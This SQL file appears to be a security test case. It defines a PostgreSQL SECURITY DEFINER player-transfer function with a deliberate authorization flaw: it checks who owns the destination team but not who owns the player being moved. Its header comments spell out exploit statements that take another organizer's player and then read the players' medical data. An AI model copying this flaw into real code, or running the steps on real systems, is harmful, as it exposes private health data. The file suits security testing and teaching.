-- A login takes a player from a team of another organizer: the transfer asks only whose the new team is.
-- about: transfer_player, players, teams
-- as: hf_leaguely_app
-- exploit: SET league.organizer = 'a0a00000-0000-4000-8000-000000000001';
-- exploit: SELECT league.transfer_player('L-2', 'a0a00000-0000-4000-8000-000000000005');
-- exploit: SELECT name, medical FROM league.players;
-- shows: Road-secret heart
CREATE FUNCTION league.transfer_player(p_license text, p_team uuid) RETURNS void LANGUAGE plpgsql
SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$
BEGIN
  PERFORM 1 FROM league.teams t JOIN league.competitions c ON c.id = t.competition_id
  WHERE t.id = p_team AND c.organizer_id = league.organizer();
  IF NOT FOUND THEN
    RAISE EXCEPTION 'not your team';
  END IF;
  UPDATE league.players SET team_id = p_team WHERE license = p_license;
END $$;
REVOKE EXECUTE ON FUNCTION league.transfer_player(text, uuid) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION league.transfer_player(text, uuid) TO hf_leaguely_app;
